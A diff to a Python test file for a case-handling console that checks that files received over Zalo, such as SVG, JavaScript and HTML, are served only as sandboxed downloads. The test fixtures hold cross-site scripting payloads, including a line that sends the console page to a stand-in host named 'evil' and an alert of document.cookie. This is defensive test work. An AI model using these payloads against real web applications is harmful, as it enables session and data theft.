@@ -368,6 +368,8 @@ def test_photo_is_kept_without_exif_and_still_shown_after_the_link_expires(world
     assert f'src="/console/attachment/{photo.pk}/"' in page
     shown = world.client(world.officer_a).get(f"/console/attachment/{photo.pk}/")
     assert shown.status_code == 200 and shown.getvalue() == stored
+    assert shown["Content-Type"] == "image/jpeg" and not shown.get("Content-Disposition", "").startswith("attachment")
+    assert shown["Content-Security-Policy"] == "sandbox" and shown["X-Content-Type-Options"] == "nosniff"
     assert zalo.downloads == ["/photo/123.jpg"]  # fetched once, when the event was processed
 
 
@@ -436,9 +438,48 @@ def test_recordings_videos_and_files_are_kept(
     zalo.media_expired = True
     assert label in thread_page(world, Case.objects.get())
     response = world.client(world.officer_a).get(f"/console/attachment/{item.pk}/")
-    assert response.status_code == 200 and response["Content-Type"] == kept_as
+    assert response.status_code == 200 and response["Content-Type"] == "application/octet-stream"
     assert response["Content-Disposition"].startswith("attachment;")  # downloaded, never rendered in the console
     assert world.client(world.officer_b).get(f"/console/attachment/{item.pk}/").status_code == 404
+
+
+@pytest.mark.parametrize(
+    ("name", "mime", "content"),
+    [
+        ("anh.svg", "image/svg+xml", b'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("/console/")</script></svg>'),
+        ("x.js", "text/javascript", b'fetch("/console/").then(r => r.text()).then(t => navigator.sendBeacon("//evil", t))'),
+        ("trang.html", "text/html", b"<script>alert(document.cookie)</script>"),
+    ],
+)
+def test_a_file_that_could_run_in_the_console_is_only_ever_a_download(
+    world: World, zalo: FakeZalo, name: str, mime: str, content: bytes
+) -> None:
+    """An attacker sends an SVG or a script over Zalo, declared as such both in the event
+    and by the server: it is kept as bytes and served so that no browser runs it."""
+    zalo.media["/file/987.pdf"] = (content, mime)
+    data = json.loads(event("user_send_file", media=zalo.url))
+    data["message"]["attachments"][0]["payload"].update({"name": name, "type": mime})
+    deliver(json.dumps(data).encode())
+    run_tasks()
+    item = Attachment.objects.get()
+    assert item.content_type == "application/octet-stream" and item.file.read() == content and not item.is_image
+    page = thread_page(world, Case.objects.get())
+    assert f'src="/console/attachment/{item.pk}/"' not in page and f'href="/console/attachment/{item.pk}/"' in page
+    response = world.client(world.officer_a).get(f"/console/attachment/{item.pk}/")
+    assert response.status_code == 200 and response.getvalue() == content
+    assert response["Content-Type"] == "application/octet-stream"
+    assert response["Content-Disposition"].startswith("attachment;")
+    assert response["Content-Security-Policy"] == "sandbox" and response["X-Content-Type-Options"] == "nosniff"
+
+
+def test_an_svg_stored_before_the_fix_is_not_served_as_an_image(world: World, zalo: FakeZalo) -> None:
+    zalo.media["/file/987.pdf"] = (b"<svg/>", "application/pdf")
+    deliver(event("user_send_file", media=zalo.url))
+    run_tasks()
+    Attachment.objects.update(content_type="image/svg+xml")
+    item = Attachment.objects.get()
+    response = world.client(world.officer_a).get(f"/console/attachment/{item.pk}/")
+    assert response["Content-Type"] == "application/octet-stream" and response["Content-Disposition"].startswith("attachment;")
 
 
 def test_a_file_over_the_limit_is_not_kept_and_the_case_says_why(world: World, zalo: FakeZalo, settings: Any) -> None:
